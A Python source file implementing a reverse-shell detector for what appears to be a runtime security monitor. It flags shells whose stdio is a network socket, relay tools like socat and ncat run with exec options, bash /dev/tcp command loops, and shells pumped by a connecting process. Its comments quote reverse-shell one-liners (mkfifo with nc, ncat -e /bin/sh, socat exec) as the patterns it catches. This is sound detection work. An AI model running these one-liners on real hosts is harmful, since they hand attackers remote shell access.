"""Execution:Runtime/ReverseShell: a shell or interpreter whose stdin/stdout/stderr is a network socket.

The socket source reports ``process.stdio_socket`` for any process whose fd
0, 1 or 2 is a socket, naming the highest ancestor that holds it (commands
typed into the shell inherit the socket; they are not new shells). Here only
shells and interpreters count: a daemon started by inetd or systemd socket
activation has a socket on its stdio by design. A unix socket is not a
network one (socketpairs between a supervisor and its worker).

The socat/ncat shapes that put a pty or socketpair between the socket and the
shell (``socat exec:'bash -li',pty tcp:host:port``, ``ncat -e /bin/sh``) leave
no socket on the shell's stdio; they are caught by their shape: a shell
started by a relay tool that holds a network connection and was told to
execute it. So is the most common one-liner, which keeps the socket out of
the shell entirely: ``rm f; mkfifo f; cat f | sh -i 2>&1 | nc host port > f``
(or ``openssl s_client -connect``): a shell reading its stdin next to a
relay with a peer, both children of one parent and started together.
And the shape of java/node/go reverse shells, where the program holding the
connection pumps it to a shell's pipes: a shell reading its stdin from a pipe,
started by a process that connected out and never listened.
"""

from __future__ import annotations

import re
from collections import OrderedDict
from collections.abc import Callable, Iterable
from typing import Any, TypeVar

from collectors import procfs
from collectors.events import ProcessInfo, RuntimeEvent
from detectors.base import Detection, Detector, DetectorContext, is_interpreter, is_shell, network_action, process_names
from detectors.tools import shell_mode

TYPE = "Execution:Runtime/ReverseShell"

# awk too: `awk '{...system($0)}'` reading a socket on stdin is a shell in all but name
AWK = re.compile(r"^[gmn]?awk$")
# Relay tools that can run a program with its stdio on their connection, and the options that make them do it.
RELAYS = re.compile(r"^(?:socat|ncat|nc|netcat|nc\.traditional|nc\.openbsd|telnet)$")  # busybox nc: comm is "nc"
# parents whose shells are terminal sessions: their stdin is a pty, but a pipe-fed session is theirs to run too
TERMINAL_SERVERS = frozenset(
    {"sshd", "dropbear", "telnetd", "in.telnetd", "login", "ssm-session-worker", "amazon-ssm-agent", "tmux",
     "tmux: server", "screen", "script", "runc", "containerd-shim", "conmon", "sudo", "su", "expect",
     "gitlab-runner"}
)  # fmt: skip
_V = TypeVar("_V")
DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/([^/\s]+)/(\d+)")
# /dev/tcp plus commands executed from what it reads: a `while read` loop running its lines, or a shell or eval
# reading the connection's fd. Port checks (`</dev/tcp/db/5432`) and hand-made HTTP requests (`exec 3<>/dev/tcp/h/80;
# printf 'GET /...' >&3; cat <&3`) do neither.
DEV_TCP_SHELL = re.compile(
    r"^(?=.*?/dev/(?:tcp|udp)/[^/\s]+/\d+)"
    r"(?=.*?(?:\bwhile\s+read\s+(?:-r\s+)?(\w+)\s*;\s*do\s+(?:eval\s+)?\"?\$\{?\1\b"
    r"|\b(?:ba|da|z|k|c|tc)?sh\b[^|;&]*<&\s*\d|\beval\b[^|;&]*<&\s*\d))",
    re.S,
)
PORT = re.compile(r"^\d{1,5}$")
# the processes of one typed pipeline start within milliseconds; slack for a loaded machine
PIPELINE_WINDOW = 3.0
# a reverse shell's client connects and starts its shell within moments (sock_diag may see it a poll late)
CONNECT_WINDOW = 5.0
# how long a pumped shell runs before it is judged: enough for an app to have written its script and closed the pipe
PUMP_SETTLE = 1.5
RELAY_EXEC = re.compile(r"(?:^|\s)(?:-e|-c|--exec|--sh-exec|--lua-exec)(?:\s|=|$)|\b(?:exec|system):", re.I)


def is_shell_or_interpreter(info: ProcessInfo) -> bool:
    return is_shell(info) or is_interpreter(info) or any(AWK.match(n) for n in process_names(info))


class ReverseShellDetector(Detector):
    name = "reverse_shell"
    types = (TYPE,)
    kinds = ("process.stdio_socket", "process.exec", "net.connect", "net.listen", "net.accept")

    def __init__(self, ctx: DetectorContext, max_tracked: int = 4096) -> None:
        super().__init__(ctx)
        self.max_tracked = max_tracked
        # processes (uuid) with outbound TCP connections: (when seen, the event data), the last few
        self._clients: OrderedDict[str, list[tuple[float, dict[str, Any]]]] = OrderedDict()
        # processes that listen or accepted: servers, not the client end of a reverse shell
        self._servers: OrderedDict[str, None] = OrderedDict()
        # shells reading stdin by parent uuid, until the parent is known to connect (or not)
        self._shells: OrderedDict[str, list[ProcessInfo]] = OrderedDict()
        # pumped shells waiting to be judged once they have run a little: (due, shell, parent, remote, time)
        self._pending: list[tuple[float, ProcessInfo, ProcessInfo, dict[str, Any], float]] = []

    def on_event(self, event: RuntimeEvent) -> Iterable[Detection]:
        p = event.process
        if p is None:
            return ()
        if event.kind == "process.exec":
            return [*self._relayed(p, event), *self._driven_shell(p, event)]
        if event.kind.startswith("net."):
            return self._on_net(p, event)
        data = event.data or {}
        fds = data.get("fds") or []
        network = [f for f in fds if isinstance(f, dict) and f.get("network")]
        if not network or not is_shell_or_interpreter(p):
            return ()
        first = network[0]
        context = {
            "addressFamily": first.get("addressFamily") or data.get("addressFamily"),
            "ianaProtocolNumber": first.get("ianaProtocolNumber") or data.get("ianaProtocolNumber"),
            "socketFds": data.get("socketFds") or sorted(f.get("fd") for f in network if f.get("fd") is not None),
        }
        endpoint = {**data, **{k: v for k, v in first.items() if v is not None}}
        if endpoint.get("direction") == "INBOUND":
            # A shell on a socket a server accepted and handed over: CGI scripts, inetd services. A bind shell's
            # listener is the shell's own process, or a relay (nc -l -e sh), neither of them a known server.
            parent = self.ctx.parent(p)
            if parent is not None and parent.uuid in self._servers and not is_relay(parent):
                return ()
        return (
            Detection(
                TYPE,
                p,
                context={k: v for k, v in context.items() if v is not None},
                key=(endpoint.get("remoteIp"),),
                action=network_action(endpoint),
                facts={
                    "peer": f"{endpoint.get('remoteIp')}:{endpoint.get('remotePort')}",
                    "via": "its standard input/output are that socket",
                },
                time=event.time,
            ),
        )

    def _relayed(self, p: ProcessInfo, event: RuntimeEvent) -> Iterable[Detection]:
        if is_shell(p) and DEV_TCP_SHELL.search(p.command_line or ""):
            # bash's /dev/tcp with the connection on another fd, commands read from it and run:
            # `exec 5<>/dev/tcp/h/p; cat <&5 | while read line; do $line 2>&5 >&5; done`
            target = DEV_TCP.search(p.command_line or "")
            peer = f"{target.group(1)}:{target.group(2)}" if target else "a /dev/tcp peer"
            return (
                Detection(
                    TYPE,
                    p,
                    context={"commandLineExample": (p.command_line or "")[:1024]},
                    key=(peer,),
                    facts={"peer": peer, "via": "bash's /dev/tcp carries its commands and their output"},
                    time=event.time,
                ),
            )
        if is_shell(p):
            parent = self.ctx.parent(p)
            if parent is not None and is_relay(parent) and RELAY_EXEC.search(parent.command_line or ""):
                return (self._through(p, parent, event),)
            if shell_mode(p) == "stdin" and not self._forked(p):
                relay = self._sibling(p, is_connecting_relay)
                if relay is not None and self._loop_closed(p, relay):
                    return (self._through(p, relay, event),)
        elif is_connecting_relay(p):
            shell = self._sibling(p, lambda s: is_shell(s) and shell_mode(s) == "stdin" and not self._forked(s))
            if shell is not None and self._loop_closed(shell, p):
                return (self._through(shell, p, event),)
        return ()

    def _forked(self, shell: ProcessInfo) -> bool:
        """A subshell (`( ... ) | nc`, `while read` in a pipeline): its parent shell's image, never exec'd."""
        if shell.forked:
            return True  # known at capture
        parent = self.ctx.parent(shell)
        if parent is None or not is_shell(parent):
            return False
        return procfs.forked_from((shell.pid, shell.start_ticks), (parent.pid, parent.start_ticks)) is True

    def _loop_closed(self, shell: ProcessInfo, relay: ProcessInfo) -> bool:
        """The pipeline feeds the relay's output back into the shell (through a fifo or a file): the shell does
        not read what its parent reads, and the relay does not write where its parent writes. A subshell piping
        into `openssl s_client` or `nc` at a prompt (`(printf 'PING\\r\\n'; sleep 1) | nc redis 6379`) reads and
        writes the session's own stdin/stdout."""
        parent = self.ctx.parent(shell)
        if parent is None:
            return True
        mine = procfs.read_fd_links(shell.pid, shell.start_ticks, (0,))
        theirs = procfs.read_fd_links(relay.pid, relay.start_ticks, (1,))
        session = procfs.read_fd_links(parent.pid, parent.start_ticks, (0, 1))
        if mine is None or theirs is None or session is None:
            # gone already: a reverse shell lives as long as its session; a pipeline stage that is gone was a
            # one-shot (`echo | openssl s_client ... | openssl x509` forks a subshell for `echo`)
            return False
        return mine.get(0) != session.get(0) and theirs.get(1) != session.get(1)

    # -- a shell driven over pipes by a process holding the connection ----------------------------------------
    def _driven_shell(self, p: ProcessInfo, event: RuntimeEvent) -> Iterable[Detection]:
        if not is_shell(p) or shell_mode(p) != "stdin" or p.parent_uuid is None:
            return ()
        parent = self.ctx.parent(p)
        if parent is None or is_shell(parent) or any(n in TERMINAL_SERVERS for n in process_names(parent)):
            return ()
        if is_relay(parent):
            return ()  # socat/ncat running it: judged by _relayed, one finding per shell
        remote = self._connected_near(parent.uuid, p.start_time)
        if remote is None:
            _remember(self._shells, parent.uuid, [*self._shells.get(parent.uuid, []), p], self.max_tracked)
            return ()
        return self._judge(p, parent, remote, event)

    def _connected_near(self, uuid: str, when: float) -> dict[str, Any] | None:
        """A connection of ``uuid`` made around ``when``: a reverse shell connects and starts its shell together;
        an app feeding scripts to sh over pipes holds pooled connections made long before."""
        recent: list[tuple[float, dict[str, Any]]] = self._clients.get(uuid, [])
        return next((data for seen, data in reversed(recent) if abs(seen - when) <= CONNECT_WINDOW), None)

    def _on_net(self, p: ProcessInfo, event: RuntimeEvent) -> Iterable[Detection]:
        data = event.data or {}
        if event.kind != "net.connect":
            _remember(self._servers, p.uuid, None, self.max_tracked)
            return ()
        if data.get("ianaProtocolNumber") != 6 or data.get("direction") != "OUTBOUND":
            return ()
        _remember(self._clients, p.uuid, [*self._clients.get(p.uuid, [])[-7:], (event.time, data)], self.max_tracked)
        waiting = self._shells.pop(p.uuid, None)
        if not waiting:
            return ()
        return [
            d
            for shell in waiting
            if shell.exited_at is None and abs(shell.start_time - event.time) <= CONNECT_WINDOW
            for d in self._judge(shell, p, data, event)
        ]

    def _judge(
        self, shell: ProcessInfo, parent: ProcessInfo, remote: dict[str, Any], event: RuntimeEvent
    ) -> Iterable[Detection]:
        """The java/node/go shape: ``ProcessBuilder("/bin/sh").start()`` with its pipes pumped to a socket. Judged
        ``PUMP_SETTLE`` seconds after the shell started (see tick): an app feeding a script to ``sh`` writes it and
        closes the pipe at once, a pump keeps the shell's input open for the whole session."""
        if parent.uuid in self._servers or len(self._pending) >= self.max_tracked:
            return ()
        self._pending.append((shell.start_time + PUMP_SETTLE, shell, parent, remote, event.time))
        return ()

    def tick(self, now: float) -> Iterable[Detection]:
        if not self._pending:
            return ()
        due = [x for x in self._pending if x[0] <= now]
        if not due:
            return ()
        self._pending = [x for x in self._pending if x[0] > now]
        return [d for _, shell, parent, remote, when in due for d in self._pumped(shell, parent, remote, when)]

    def _pumped(
        self, shell: ProcessInfo, parent: ProcessInfo, remote: dict[str, Any], when: float
    ) -> Iterable[Detection]:
        """Still running, its stdin and stdout pipes (java, go, python) or a unix socketpair (node: libuv gives
        children socketpairs), and for a pipe the parent still holds its other end: the shell's input is live. A
        pty means a terminal session (ECS Exec, ssh, kubectl exec)."""
        if shell.exited_at is not None or parent.uuid in self._servers:
            return ()
        links = procfs.read_fd_links(shell.pid, shell.start_ticks, (0, 1))
        if links is None or not all((links.get(fd) or "").startswith(("pipe:", "socket:")) for fd in (0, 1)):
            return ()
        stdin = links.get(0) or ""
        if stdin.startswith("pipe:"):
            held = procfs.read_fd_targets(parent.pid, parent.start_ticks)
            if held is None or stdin not in held:
                return ()  # the parent wrote a script and closed the pipe (or is gone): not a session
        return (
            Detection(
                TYPE,
                shell,
                context={"relayProcess": parent.name, "relayCommandLine": parent.command_line},
                key=(remote.get("remoteIp"),),
                action=network_action(remote),
                facts={
                    "peer": f"{remote.get('remoteIp')}:{remote.get('remotePort')}",
                    "via": f"{parent.name} pumps that connection to the shell's pipes",
                },
                time=when,
            ),
        )

    def _sibling(self, p: ProcessInfo, want: Callable[[ProcessInfo], bool]) -> ProcessInfo | None:
        """A live process of the same pipeline: same parent, started within a few seconds of ``p``."""
        if p.parent_uuid is None:
            return None
        for other in self.ctx.table.live():
            if (
                other.parent_uuid == p.parent_uuid
                and other.uuid != p.uuid
                and other.exited_at is None
                and abs(other.start_time - p.start_time) <= PIPELINE_WINDOW
                and want(other)
            ):
                return other
        return None

    @staticmethod
    def _through(shell: ProcessInfo, relay: ProcessInfo, event: RuntimeEvent) -> Detection:
        return Detection(
            TYPE,
            shell,
            context={"relayProcess": relay.name, "relayCommandLine": relay.command_line},
            key=(relay.command_line,),
            facts={"peer": f"as given to {relay.name}", "via": f"`{relay.command_line}` relays its input and output"},
            time=event.time,
        )


def _remember(d: OrderedDict[str, _V], key: str, value: _V, limit: int) -> None:
    d[key] = value
    d.move_to_end(key)
    while len(d) > limit:
        d.popitem(last=False)


def is_relay(info: ProcessInfo) -> bool:
    return any(RELAYS.match(n) for n in process_names(info))


def is_connecting_relay(info: ProcessInfo) -> bool:
    """A relay in a pipeline that carries a shell's input and output over the network:
    `cat f | sh -i 2>&1 | nc host port > f`, `... | openssl s_client -connect host:port > f`.
    Port checks (`nc -z`) and relays without a peer are not."""
    args = (info.command_line or "").split()[1:]
    if any(n == "openssl" for n in process_names(info)):
        return "s_client" in args
    if not is_relay(info) or any(a in ("-z", "-h", "--help", "-V", "--version") for a in args):
        return False
    return any(PORT.match(a) for a in args) or any(":" in a for a in args)


DETECTORS = (ReverseShellDetector,)
